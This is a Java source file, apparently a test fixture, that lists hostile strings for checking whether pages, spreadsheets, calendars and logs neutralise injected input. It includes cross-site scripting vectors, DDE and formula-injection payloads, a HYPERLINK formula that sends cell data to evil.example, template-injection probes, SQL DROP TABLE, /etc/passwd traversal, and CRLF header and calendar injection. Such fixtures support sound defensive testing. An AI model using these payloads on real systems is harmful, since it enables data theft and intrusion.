package org.trialbridge.hostile;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** What somebody types who wants that a page, a workbook, a calendar, a message or a log does something: the one list of it. */
public final class HostileStrings {
    /** What is typed, and a piece of it, or of what a template makes of it, that stands in no page if it stays a text. */
    public static final Map<String, String> TRACES = traces();

    /** What a spreadsheet could take for a formula, or show as another thing than it is. */
    public static final List<String> OF_CELLS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "＝1+1",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "{{7*7}} ${7*7} #{7*7} <#assign x=1>",
            "'; DROP TABLE counts;--",
            "%00%0d%0aSet-Cookie: a=b",
            "\u202Etxt.exe",
            "👩🏽‍⚕️ 𠜎 اردو o‘zbekcha");

    /** What is typed into every field. How formulas begin stands before them anyway. */
    static final List<String> ALL = Stream.concat(
                    TRACES.keySet().stream(), Stream.of("_x0041_", "&lt;b&gt;&#60;", "]]>", "\u202Etxt.exe"))
            .toList();

    private HostileStrings() {}

    private static Map<String, String> traces() {
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("<script>alert(1)</script>", "<script>alert");
        texts.put("\"><img src=x onerror=alert(2)>", "<img src=x");
        texts.put("' onfocus='alert(3)' autofocus='", "' onfocus='");
        texts.put("<svg/onload=alert(4)>", "<svg/onload");
        texts.put("</textarea><iframe srcdoc=5>", "</textarea><iframe");
        texts.put("</title><b>6</b>", "</title><b>6");
        texts.put("<a href=\"javascript:alert(7)\">x</a>", "<a href=\"javascript:");
        texts.put("<!--8", "<!--8");
        texts.put("${7*9}", ">63<");
        texts.put("#{7*9} {{7*9}} [[7*9]]", ">63 ");
        texts.put("<#assign a=10><@b/>", "<#assign");
        texts.put("..%2f..%2fetc%2fpasswd %00", "root:");
        texts.put("file:///etc/passwd", "href=\"file:");
        texts.put("End\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:13", "<nothing");
        texts.put("\r\nSet-Cookie: a=14\r\n\"level\":\"INFO\"", "<nothing");
        texts.put("=cmd|' /C calc'!A15", "<nothing");
        return texts;
    }
}
